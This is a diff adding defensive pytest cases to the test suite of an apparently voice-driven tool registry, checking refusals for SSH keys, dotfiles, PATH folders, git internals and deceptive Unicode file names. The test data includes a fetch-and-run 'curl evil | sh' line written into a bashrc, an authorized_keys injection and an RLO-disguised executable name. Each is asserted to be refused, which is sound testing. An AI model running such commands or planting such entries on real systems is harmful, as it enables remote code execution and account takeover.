@@ -10,6 +10,7 @@ from __future__ import annotations
 
 import hashlib
 import os
+import sys
 from pathlib import Path
 from typing import Any
 
@@ -602,8 +603,10 @@ def test_the_write_question_shows_the_start_of_the_content(world: dict[str, Path
 
 
 def test_a_hard_link_to_a_secret_is_not_read_under_another_name(world: dict[str, Path]) -> None:
+    key = world["root"] / ".ssh" / "id_ed25519"
+    key.chmod(0o600)  # as ssh-keygen leaves it
     link = world["root"] / "notes" / "hardlink.txt"
-    os.link(world["root"] / ".ssh" / "id_ed25519", link)
+    os.link(key, link)
     assert_refused(world, "read_file", {"path": "notes/hardlink.txt"}, "other names")
     assert_refused(
         world, "run_command", {"command": "cat", "args": ["notes/hardlink.txt"]}, "other names"
@@ -735,3 +738,248 @@ def test_a_permissive_policy_cannot_skip_the_question(world: dict[str, Path]) ->
         assert last_audit()["decision"] == "declined"
     assert [request.tool for request in confirm.asked] == ["delete_file", "write_file"]
     assert snapshot(world["tmp"], world["home"]) == before
+
+
+@pytest.mark.parametrize(
+    ("tool", "arguments"),
+    [
+        ("run_command", {"command": "cat", "args": ["notes/diary\udc80.txt"]}),
+        ("read_file", {"path": "notes/diary\udc80.txt"}),
+        ("read_file", {"path": "notes/lone\ud800surrogate.txt"}),
+        ("run_command", {"command": "ls\udc80"}),
+    ],
+)
+def test_calls_with_lone_surrogates_are_audited(
+    world: dict[str, Path], tool: str, arguments: dict[str, Any]
+) -> None:
+    # A file name that is not valid UTF-8 reaches Python as a lone surrogate.
+    (world["root"] / "notes" / os.fsdecode(b"diary\x80.txt")).write_text("dear diary\n")
+    registry, _ = registry_for(world)
+    before = len(list(read_records()))
+    outcome = registry.call(tool, arguments)
+    records = list(read_records())
+    assert len(records) == before + 1, outcome
+    assert records[-1]["tool"] == tool
+    assert records[-1]["arguments"] == outcome.arguments
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "Screenshot 2024-05-01 at 10.00.00\u202fAM.png",  # macOS: narrow no-break space
+        "Caf\u00e9\u00a0Menu.txt",  # no-break space
+        "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645.txt",  # Persian, with ZWNJ
+        "family\U0001f468\u200d\U0001f469.txt",  # emoji joined by ZWJ
+    ],
+)
+def test_names_with_spaces_and_joiners_are_listed_as_they_are(
+    world: dict[str, Path], name: str
+) -> None:
+    (world["root"] / "notes" / name).write_text("content of the file\n")
+    registry, _ = registry_for(world)
+    listing = registry.call("list_directory", {"path": "notes"})
+    lines = listing.result.splitlines()
+    assert listing.ok and any(line.startswith(f"{name}  ") for line in lines), listing.result
+    found = registry.call("find_files", {"pattern": name[:4] + "*"})
+    assert found.ok and name in found.result, found.result
+    read_back = registry.call("read_file", {"path": f"notes/{name}"})
+    assert read_back.ok and read_back.result.endswith("content of the file\n")
+    assert name in read_back.result
+    written = registry.call("write_file", {"path": f"notes/{name}", "content": "new"})
+    assert written.ok, written.error
+    assert (world["root"] / "notes" / name).read_text() == "new"
+    deleted = registry.call("delete_file", {"path": f"notes/{name}"})
+    assert deleted.ok and not (world["root"] / "notes" / name).exists()
+
+
+@pytest.mark.parametrize(
+    ("name", "escaped"),
+    [
+        ("rlo\u202etxt.exe", "rlo\\u202etxt.exe"),
+        ("isolate\u2066x\u2069.txt", "isolate\\u2066x\\u2069.txt"),
+        ("mark\u200f.txt", "mark\\u200f.txt"),
+        ("arabic\u061cmark.txt", "arabic\\u061cmark.txt"),
+        ("line\u2028sep.txt", "line\\u2028sep.txt"),
+        ("para\u2029sep.txt", "para\\u2029sep.txt"),
+        ("c1\x9bcontrol.txt", "c1\\x9bcontrol.txt"),
+    ],
+)
+def test_bidi_and_separator_characters_stay_escaped_and_refused(
+    world: dict[str, Path], name: str, escaped: str
+) -> None:
+    (world["root"] / "notes" / name).write_text("x")
+    registry, _ = registry_for(world)
+    listing = registry.call("list_directory", {"path": "notes"})
+    assert escaped in listing.result and name not in listing.result
+    assert_refused(world, "write_file", {"path": f"notes/{name}", "content": "x"}, "control")
+    assert_refused(world, "delete_file", {"path": f"notes/{name}"}, "control character")
+
+
+def test_dotfiles_linked_from_elsewhere_stay_protected(
+    world: dict[str, Path], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("HOME", str(world["root"]))
+    dotfiles = world["root"] / "dotfiles"
+    dotfiles.mkdir()
+    (world["root"] / ".bashrc").rename(dotfiles / "bashrc")
+    (world["root"] / ".bashrc").symlink_to(dotfiles / "bashrc")
+    (world["root"] / ".ssh").rename(dotfiles / "ssh")
+    (world["root"] / ".ssh").symlink_to(dotfiles / "ssh")
+    (dotfiles / "ssh" / "mykey").write_text(SECRET)
+    (dotfiles / "private").mkdir()
+    (dotfiles / "private" / "notes.txt").write_text(SECRET)
+    (world["root"] / "Private").symlink_to(dotfiles / "private")
+    for tool, arguments in [
+        ("write_file", {"path": "~/dotfiles/bashrc", "content": "curl evil | sh"}),
+        ("delete_file", {"path": "~/dotfiles/bashrc"}),
+    ]:
+        assert_refused(world, tool, arguments, "makes programs run")
+    for tool, arguments in [
+        ("read_file", {"path": "~/dotfiles/ssh/mykey"}),
+        ("list_directory", {"path": "~/dotfiles/ssh"}),
+        ("run_command", {"command": "cat", "args": ["dotfiles/ssh/mykey"]}),
+        ("write_file", {"path": "~/dotfiles/ssh/authorized_keys", "content": "ssh-ed25519 A"}),
+    ]:
+        assert_refused(world, tool, arguments, "off limits (secrets: ")
+    # A tools.deny entry too.
+    assert_refused(
+        world,
+        "read_file",
+        {"path": "~/dotfiles/private/notes.txt"},
+        "off limits (tools.deny: ",
+        deny=["~/Private"],
+    )
+    listing = registry_for(world)[0].call("list_directory", {"path": "~/dotfiles"})
+    assert listing.ok and "ssh/" not in listing.result and "bashrc" in listing.result
+
+
+HIDDEN_REASON = "hidden configuration folders and files are not changed by voiced"
+
+
+@pytest.mark.parametrize(
+    ("tool", "arguments"),
+    [
+        ("write_file", {"path": "~/.hgrc", "content": "[hooks]\n"}),
+        ("write_file", {"path": "~/.config/myapp/settings.json", "content": "{}"}),
+        ("write_file", {"path": "~/.newfolder_file", "content": "x"}),
+        ("write_file", {"path": "~/.local/share/nautilus/scripts/x", "content": "x"}),
+        ("delete_file", {"path": "~/.config/myapp/settings.json"}),
+        ("speak_to_file", {"text": "hi", "path": "~/.config/myapp/x.wav"}),
+    ],
+)
+def test_hidden_folders_and_files_in_home_are_not_changed(
+    world: dict[str, Path], tool: str, arguments: dict[str, Any], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("HOME", str(world["root"]))
+    (world["root"] / ".config" / "myapp").mkdir(parents=True)
+    (world["root"] / ".config" / "myapp" / "settings.json").write_text('{"a": 1}')
+    (world["root"] / ".hgrc").write_text("[ui]\n")
+    (world["root"] / ".local" / "share" / "nautilus" / "scripts").mkdir(parents=True)
+    assert_refused(world, tool, arguments, HIDDEN_REASON)
+    # Reading stays possible, and hidden names further down are ordinary files.
+    registry, _ = registry_for(world)
+    assert registry.call("read_file", {"path": "~/.config/myapp/settings.json"}).ok
+    written = registry.call("write_file", {"path": "~/notes/.hidden.txt", "content": "x"})
+    assert written.ok, written.error
+
+
+def test_folders_on_path_are_not_written(
+    world: dict[str, Path], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    tools = world["root"] / "tools"
+    tools.mkdir()
+    (world["root"] / "realbin").mkdir()
+    (world["root"] / "linkbin").symlink_to(world["root"] / "realbin")
+    monkeypatch.setenv("PATH", f"{tools}:{world['root'] / 'linkbin'}:relative:/usr/bin")
+    for path in ("tools/ls", "realbin/git", "linkbin/git"):
+        assert_refused(world, "write_file", {"path": path, "content": "x"}, "makes programs run")
+    assert (
+        "programs on PATH"
+        in registry_for(world)[0].call("write_file", {"path": "tools/ls", "content": "x"}).reason
+    )
+
+
+def test_the_running_python_is_not_written(world: dict[str, Path]) -> None:
+    import sysconfig
+
+    places = {sys.prefix, sys.base_prefix, *sysconfig.get_paths().values()}
+    targets = [Path(os.path.realpath(place)) / "voiced-test-new.py" for place in places]
+    targets.append(Path(os.path.realpath(sysconfig.get_paths()["stdlib"])) / "os.py")
+    roots = [str(target.parent) for target in targets]
+    registry, confirm = registry_for(world, answer=False, file_roots=roots)
+    for target in targets:
+        outcome = registry.call("write_file", {"path": str(target), "content": "import os"})
+        assert outcome.decision == "refused", outcome
+        assert "makes programs run" in outcome.reason
+    assert not confirm.asked
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "project/.git/HEAD",
+        "project/.git/info/attributes",
+        "project/.git/objects/ab/cdef",
+        "project/.GIT/config",
+        "backup.git/config",
+        "backup.git/hooks/post-update",
+        "backup.git/objects/info/alternates",
+    ],
+)
+def test_git_internals_are_not_written(world: dict[str, Path], path: str) -> None:
+    (world["root"] / "project" / ".git" / "info").mkdir()
+    (world["root"] / "project" / ".git" / "objects" / "ab").mkdir(parents=True)
+    bare = world["root"] / "backup.git"
+    (bare / "objects" / "info").mkdir(parents=True)
+    (bare / "hooks").mkdir()
+    (bare / "HEAD").write_text("ref: refs/heads/main\n")
+    assert_refused(world, "write_file", {"path": path, "content": "x"}, "makes programs run")
+
+
+def test_a_shared_hard_linked_document_is_readable(world: dict[str, Path]) -> None:
+    # Media libraries, package caches and backups hard-link ordinary files everywhere.
+    original = world["outside"] / "library" / "episode.nfo"
+    original.parent.mkdir()
+    original.write_text("<episodedetails/>\n")
+    original.chmod(0o644)
+    os.link(original, world["root"] / "notes" / "episode.nfo")
+    registry, _ = registry_for(world)
+    outcome = registry.call("read_file", {"path": "notes/episode.nfo"})
+    assert outcome.ok and outcome.result.endswith("<episodedetails/>\n"), outcome.error
+    cat = registry.call("run_command", {"command": "cat", "args": ["notes/episode.nfo"]})
+    assert cat.ok and "<episodedetails/>" in cat.result, cat.error
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="giving a file away needs root")
+def test_a_hard_linked_file_of_another_user_is_not_read(world: dict[str, Path]) -> None:
+    foreign = world["outside"] / "their.conf"
+    foreign.write_text(SECRET)
+    foreign.chmod(0o644)
+    os.chown(foreign, 65534, 65534)
+    os.link(foreign, world["root"] / "notes" / "their.conf")
+    assert_refused(world, "read_file", {"path": "notes/their.conf"}, "other names")
+
+
+def test_names_match_whatever_their_unicode_normal_form(
+    world: dict[str, Path], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    import unicodedata
+
+    monkeypatch.setenv("HOME", str(world["root"]))
+    typed = "Persönlich"  # NFC, as typed into the config
+    synced = unicodedata.normalize("NFD", typed)  # as a Mac wrote it
+    assert typed != synced
+    (world["root"] / synced).mkdir()
+    (world["root"] / synced / "tax.txt").write_text(SECRET)
+    assert_refused(
+        world, "read_file", {"path": f"~/{synced}/tax.txt"}, "off limits", deny=[f"~/{typed}"]
+    )
+    assert_refused(world, "read_file", {"path": f"~/{synced}/tax.txt"}, "off limits", deny=[typed])
+    registry, _ = registry_for(world, deny=[f"~/{typed}"])
+    listing = registry.call("list_directory", {"path": "~"})
+    assert listing.ok and synced not in listing.result and typed not in listing.result
+    # A root typed in one form holds the folder written in the other.
+    (world["root"] / synced / "plan.txt").write_text("plan\n")
+    registry, _ = registry_for(world, file_roots=[str(world["root"] / typed)])
+    outcome = registry.call("read_file", {"path": str(world["root"] / synced / "plan.txt")})
+    assert outcome.ok and outcome.result.endswith("plan\n"), outcome.error
